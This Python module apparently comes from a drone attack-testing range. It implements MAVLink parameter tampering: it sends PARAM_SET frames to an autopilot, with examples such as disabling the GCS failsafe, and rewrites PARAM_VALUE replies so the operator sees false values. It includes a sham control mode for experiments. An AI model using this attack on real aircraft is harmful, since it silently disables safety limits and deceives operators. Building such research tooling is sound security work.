"""Parameter tampering: parameters of the autopilot are set, and the answers to the operator are falsified."""

from __future__ import annotations

from dataclasses import replace
from typing import Annotated

from pydantic import Field

from skyrange.attack.bases.mavlink.injection import Injection
from skyrange.attack.bases.mavlink.orders import AUTOPILOT, rewrite
from skyrange.attack.bases.mavlink.params import ParameterValues
from skyrange.attack.contract import Attack, AttackContext
from skyrange.attack.declaration import attack
from skyrange.attack.exclusive import Exclusive
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import Message
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.params import Number, Whole
from skyrange.contracts.plugins.fields import param
from skyrange.contracts.verdicts import Replace, Verdicts
from skyrange.core.time import Time


@attack(
    "mavlink.parameter",
    technique="T0836",
    surface=CONTROL_LINKS,
    persists="flight",
    effect="the autopilot flies with other limits, gains, failsafes or stream rates than its operator set",
    threat=on_control_link(
        "system ids, and names of parameters, which are public",
        position="on the network of the control link; on its path to show other values",
        budget="one frame for each parameter and round",
    ),
    controls=sham_to_nobody(
        content="the same frames with the values that the parameters have",
        placement="the same frames to another aircraft",
    ),
)
class ParameterTampering(Injection):
    """Sets parameters of the autopilot, and may show the operator other values."""

    reads = ("PARAM_VALUE",)

    values: Annotated[ParameterValues, Field(min_length=1)] = param(
        "New values by parameter, such as { FS_GCS_ENABLE = 0, WPNAV_SPEED = 2000 }."
    )
    shown: ParameterValues = param(
        "Values that the operator is shown instead, by parameter: PARAM_VALUE is altered on its way to the station. "
        "Default: none is altered.",
        default={},
    )
    every_s: Number = param("Time between two rounds, in seconds.", default=1.0, ge=0.05, le=3600)
    times: Whole = param(
        "Number of rounds in which all are set; 0 is until the attack stops.", default=3, ge=0, le=100_000
    )

    def build(self, context: AttackContext) -> Attack:
        """Its taps; no other attack may show other values there."""
        made, shown = super().build(context), frozenset(self.shown)
        exclusive = [Exclusive(f"PARAM_VALUE on {tap.match}", shown) for tap in made.taps] if shown else []
        return replace(made, exclusive=exclusive)

    def orders(self, now: Time) -> list[Message]:
        """A PARAM_SET for each parameter."""
        # autopilots convert by the type that they know, whatever the message says (GCS_Param.cpp, handle_param_set)
        kind = mav.MAV_PARAM_TYPE_REAL32
        return [
            mav.MAVLink_param_set_message(self.target, AUTOPILOT, name.encode(), value, kind)
            for name, value in self.values.items()
        ]

    def on_message(self, now: Time, message: Message) -> Verdicts:
        """Put the shown value into a PARAM_VALUE on its way to the station; the sham sends it on as it is."""
        value = self.shown.get(message.param_id)
        if value is None:
            return ()
        if self.sham:
            return [Replace(message.get_msgbuf())]
        shown = mav.MAVLink_param_value_message(
            message.param_id.encode(), value, message.param_type, message.param_count, message.param_index
        )
        return [Replace(rewrite(message, shown))]
